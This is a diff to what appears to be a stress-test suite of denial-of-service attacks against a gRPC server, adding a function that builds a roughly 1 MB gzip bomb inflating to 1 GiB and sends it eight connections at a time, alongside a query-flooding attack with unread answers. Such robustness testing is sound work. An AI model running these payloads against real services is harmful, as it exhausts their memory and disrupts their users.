@@ -1,7 +1,8 @@
 """Attacks by calls: what is asked, how much, and by how many."""
 
-import gzip
+import struct
 import time
+import zlib
 
 import good_client
 import messages
@@ -10,13 +11,27 @@ from http2 import Closed
 from target import rude_token
 
 
+def bomb():
+    """1 GiB of zeros as 1 MB of gzip."""
+    block = bytes(1 << 24)
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    # After a full flush the next block does not depend on this one, so that one is enough for all.
+    part = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
+    checksum = 0
+    for _ in range(64):
+        checksum = zlib.crc32(block, checksum)
+    end = deflate.flush() + struct.pack("<II", checksum, 1 << 30)
+    return b"\x1f\x8b\x08" + bytes(7) + part * 64 + end
+
+
 @attack("gzip bombs with a wrong token, 8 at a time", short=True)
 def gzip_bombs(aggressor):
-    bomb = gzip.compress(bytes(1 << 30), 1)
+    inflating = bomb()
+    aggressor.begin_now()
 
     def send(_):
         connection = aggressor.connect()
-        connection.wait(connection.unary(messages.FIND_PATH, bomb, "wrong", [("grpc-encoding", "gzip")], compressed=1))
+        connection.wait(connection.unary(messages.FIND_PATH, inflating, "wrong", [("grpc-encoding", "gzip")], compressed=1))
 
     aggressor.together(8, send)
 
@@ -37,6 +52,7 @@ def empty_queries(aggressor):
 def unread_answers(aggressor):
     setting_up = aggressor.connect()
     aggressor.call(setting_up, messages.CREATE_MAP, messages.create_map("long", 500, 500))
+    aggressor.begin_now()
     query = messages.find_path("long", (0, 0), (499, 499), form=messages.EVERY_CELL)
     body = messages.text(1, "long") + messages.text(5, query) * 1200
     connections = []
